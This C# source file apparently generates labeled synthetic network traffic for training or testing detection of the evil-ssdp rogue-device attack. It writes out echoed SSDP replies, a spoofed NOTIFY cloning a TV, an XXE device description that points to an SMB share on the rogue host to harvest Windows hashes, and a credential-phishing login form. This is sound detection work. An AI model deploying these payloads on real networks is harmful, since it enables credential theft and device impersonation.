using System.Globalization;
using System.Net;
using Analyzer.Labels;
using Analyzer.Generation.Messages;
using Analyzer.Generation.Network;
using Analyzer.Generation.Packets;

namespace Analyzer.Generation.Scenarios;

/// <summary>
/// evil-ssdp (initstring) on a box in the LAN: it answers every M-SEARCH by echoing the search target (even
/// <c>ssdp:all</c> and a random canary), announces a clone of the TV with a spoofed source address and a LOCATION on
/// itself, serves the xxe-smb device template with a DOCTYPE/ENTITY, and phishes credentials on its presentation page.
/// </summary>
public sealed class EvilSsdpScenario : AttackScenario
{
    private const ushort RoguePort = 8888;
    private const string Banner = "Linux/3.10.96+, UPnP/1.0, eSSDP/0.1";
    private const string HttpServer = "BaseHTTP/0.6 Python/3.11.2";

    public override string Name => "evil-ssdp";
    public override string Description => "attack: rogue SSDP responder (eSSDP banner, echoed ST, cloned TV identity), XXE device description, phishing page";
    public override string Category => LabelNames.RogueDevice;

    public override long Attack(ScenarioContext ctx, long t)
    {
        var net = ctx.Network;
        var random = ctx.Random;
        var rogue = net.ExtraLanHost("evil-ssdp", 64, random);
        string location = $"http://{rogue.Ipv4}:{RoguePort}/ssdp/device-desc.xml";
        string session = random.Uuid().ToString();
        var group = Endpoint.Group(IPAddress.Parse("239.255.255.250"));

        // Victims search; the real devices answer, and so does the rogue, for whatever was asked.
        var searches = new (Device Client, string St, Device[] Responders, string? UserAgent)[]
        {
            (net.WindowsPc, SsdpMessages.All, [net.Router, net.Tv, net.Nas], null),
            (net.Phone, HomeNetwork.DialService, [net.Tv, net.Chromecast], net.Phone.UserAgent),
            (net.Laptop, "uuid:" + random.Alphanumeric(8) + ":canary", [], null),
        };
        foreach (var search in searches)
        {
            long searched = t + random.Next(1_000_000, 3_000_000);
            ushort clientPort = ctx.EphemeralPort(search.Client.Host);
            var request = SsdpMessages.MSearch(HttpStyle.Standard, SsdpMessages.Ipv4Host, search.St, 2, search.UserAgent);
            ctx.Udp(searched, search.Client.Host.V4, clientPort, group, SsdpMessages.Port, request, ttl: 2);
            foreach (var device in search.Responders)
            {
                foreach (var advertisement in UpnpAdvertisements.For(device).Where(a => HomeActivity.Matches(search.St, a.Nt)))
                {
                    long at = searched + random.Next(5_000, 1_500_000);
                    string st = search.St == SsdpMessages.All ? advertisement.Nt : search.St;
                    ctx.Udp(at, device.Host.V4, SsdpMessages.Port, search.Client.Host.V4, clientPort,
                        SsdpMessages.SearchResponse(st, SsdpMessages.Usn(advertisement.Udn, st), device.Location(), device.Server!, at));
                }
            }
            long answered = searched + random.Next(1_000, 20_000);
            ctx.Udp(answered, rogue.V4, SsdpMessages.Port, search.Client.Host.V4, clientPort, RogueReply(search.St, location, session, answered));
            ctx.Mark(LabelNames.RogueDevice, "ssdp-rogue-device", rogue.Ipv4, search.Client.Host.Ipv4, answered, answered,
                $"eSSDP answer echoing ST {search.St}");
            t = searched + 1_600_000;
        }

        // The clone: the TV's identity, sent from the TV's address by the rogue's MAC, pointing at the rogue.
        long cloned = t + random.Next(500_000, 1_500_000);
        var spoofedTv = new Endpoint(rogue, net.Tv.Host.Ipv4);
        foreach (var nt in new[] { SsdpMessages.RootDevice, net.Tv.DeviceType! })
            ctx.Udp(cloned, spoofedTv, SsdpMessages.Port, group, SsdpMessages.Port,
                SsdpMessages.Notify(false, nt, SsdpMessages.Usn(net.Tv.Udn, nt), location, Banner), ttl: 2);
        ctx.Mark(LabelNames.RogueDevice, "ssdp-rogue-device", net.Tv.Host.Ipv4, group.Address, cloned, cloned,
            "NOTIFY with the TV's UDN from a spoofed source, LOCATION on another host");

        // The PC follows the LOCATION: the description carries an external entity to an SMB share on the rogue.
        var pc = net.WindowsPc.Host;
        long fetched = cloned + random.Next(1_000_000, 2_000_000);
        string hostPort = ScenarioContext.HostPort(rogue.Ipv4, RoguePort);
        t = ctx.HttpExchange(fetched, pc.V4, rogue.V4, RoguePort,
            DescriptionHttp.Get(HttpStyle.Standard, hostPort, "/ssdp/device-desc.xml", net.WindowsPc.UserAgent),
            at => Page(at, "application/xml", XxeDescription(rogue.Ipv4.ToString(), session)));
        ctx.Mark(LabelNames.RogueDevice, "ssdp-rogue-device", rogue.Ipv4, pc.Ipv4, fetched, t,
            "device description with DOCTYPE/ENTITY file://///rogue/smb");
        t = ctx.Tcp(pc.V4, rogue.V4, 445).Refused(t + random.Next(5_000, 50_000));

        // The user opens the presentation page and types a password into it.
        long phished = t + random.Next(3_000_000, 8_000_000);
        t = ctx.HttpExchange(phished, pc.V4, rogue.V4, RoguePort,
            HttpText.Request(HttpStyle.Standard, "GET", "/ssdp/present.html",
                [("Host", hostPort), ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), ("Accept", "text/html"), ("Connection", "close")]),
            at => Page(at, "text/html", "<html><head><title>Sign in</title></head><body><form method=\"POST\" action=\"/ssdp/do_login.html\">" +
                "<input name=\"username\"><input type=\"password\" name=\"password\"><input type=\"submit\"></form></body></html>\n"));
        string form = $"username=alice%40example.com&password={random.Alphanumeric(10)}";
        t = ctx.HttpExchange(t + random.Next(5_000_000, 9_000_000), pc.V4, rogue.V4, RoguePort,
            HttpText.Request(HttpStyle.Standard, "POST", "/ssdp/do_login.html",
            [
                ("Host", hostPort), ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
                ("Content-Type", "application/x-www-form-urlencoded"), ("Content-Length", HttpText.Length(form)), ("Connection", "close"),
            ], form),
            at => Page(at, "text/html", "<html><body>Please wait...</body></html>\n"));
        ctx.Mark(LabelNames.RogueDevice, "ssdp-rogue-device", rogue.Ipv4, pc.Ipv4, phished, t, "presentation page phishing a login");
        return t;
    }

    /// <summary>evil-ssdp's ssdp-initial-reply template: the requested ST echoed, its session UUID in the USN.</summary>
    private static byte[] RogueReply(string st, string location, string session, long at) =>
        HttpText.Response(HttpStyle.Standard, 200, "OK",
        [
            ("CACHE-CONTROL", "max-age=1800"), ("DATE", HttpText.Date(at)), ("EXT", ""), ("LOCATION", location),
            ("OPT", "\"http://schemas.upnp.org/upnp/1/0/\"; ns=01"), ("01-NLS", session), ("SERVER", Banner), ("ST", st),
            ("USN", $"uuid:{session}::{st}"), ("BOOTID.UPNP.ORG", "0"), ("CONFIGID.UPNP.ORG", "1"),
        ]);

    private static string XxeDescription(string rogue, string session) =>
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" +
        $"<!DOCTYPE foo [ <!ELEMENT foo ANY > <!ENTITY xxe SYSTEM \"file://///{rogue}/smb/hash.jpg\" > ]>\n" +
        "<root xmlns=\"urn:schemas-upnp-org:device-1-0\">\n<specVersion><major>1</major><minor>0</minor></specVersion>\n<device>\n" +
        "<deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType>\n<friendlyName>&xxe;</friendlyName>\n" +
        "<manufacturer>ACME</manufacturer>\n<modelName>Office Scanner</modelName>\n" +
        $"<UDN>uuid:{session}</UDN>\n<presentationURL>http://{rogue}:{RoguePort.ToString(CultureInfo.InvariantCulture)}/ssdp/present.html</presentationURL>\n" +
        "</device>\n</root>\n";

    private static byte[] Page(long at, string contentType, string body) =>
        HttpText.Response(HttpStyle.Standard, 200, "OK",
            [("Server", HttpServer), ("Date", HttpText.Date(at)), ("Content-Type", contentType), ("Content-Length", HttpText.Length(body))],
            body);
}
